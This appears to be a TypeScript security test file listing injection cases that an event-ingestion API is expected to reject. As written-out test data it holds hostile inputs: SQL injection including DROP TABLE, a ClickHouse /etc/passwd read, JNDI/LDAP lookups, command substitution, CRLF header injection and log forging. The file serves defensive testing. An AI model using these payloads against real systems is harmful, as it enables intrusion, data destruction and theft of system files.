/** Texts that mean something to whoever reads a store, a log, a table or a page later. */
import { category, type AbuseCase, type Expectation } from '../abuse-case.js';
import { batchOf, usageEvent } from '../sample-batch.js';

const invalid: Expectation = { status: 400, reason: 'invalid' };
/** In a field that takes one of a few words. */
const word = (text: string): AbuseCase['send'] => ({ usage }) => usage(batchOf([usageEvent({}, { method: text })]));

export const injection = category('injection', 'no text of a sender reaches a statement, a log line, a table or a page', [
  ['SQL', invalid, word("planted-injection'); DROP TABLE events; --"), 'token'],
  ['SQL with a backslash', invalid, word("planted-injection\\'; SELECT 1"), 'token'],
  ['a parameter of ClickHouse', invalid, word('{planted-injection:String}'), 'token'],
  ['a function of ClickHouse', invalid, word("file('/etc/passwd') planted-injection"), 'token'],
  ['a lookup of a logger', invalid, word('${jndi:ldap://planted-injection.example/a}'), 'token'],
  ['a line of a log', invalid, word('x\n{"level":"error","msg":"planted-injection"}'), 'token'],
  ['a terminal\'s escape', invalid, word('\u001b[2Jplanted-injection'), 'token'],
  ['a formula of a spreadsheet', invalid, word("=HYPERLINK(\"planted-injection\")"), 'token'],
  ['a script', invalid, word('<script>planted-injection</script>'), 'token'],
  ['a command', invalid, word('$(planted-injection)'), 'token'],
  ['a format', invalid, word('%s%n planted-injection'), 'token'],
  ['text that changes its direction', invalid, word('\u202eplanted-injection'), 'token'],
  ['SQL in the name of the event', { status: 400, reason: 'unknown_event' }, ({ usage }) => usage(batchOf([usageEvent({ event: "tp.user.login' OR 'planted-injection" })])), 'token'],
  ['SQL in an id', invalid, ({ usage }) => usage(batchOf([usageEvent({ id: "' OR planted-injection --" })])), 'token'],
  ['a header behind an encoded line feed in the path', { status: 404, code: 'not_found' }, ({ post }) => post('/healthz%0d%0ax:planted-injection', '{}')],
  ['a template in the path', { status: 404, code: 'not_found' }, ({ post }) => post('/v1/${jndi:ldap://planted-injection}', '{}')],
]);
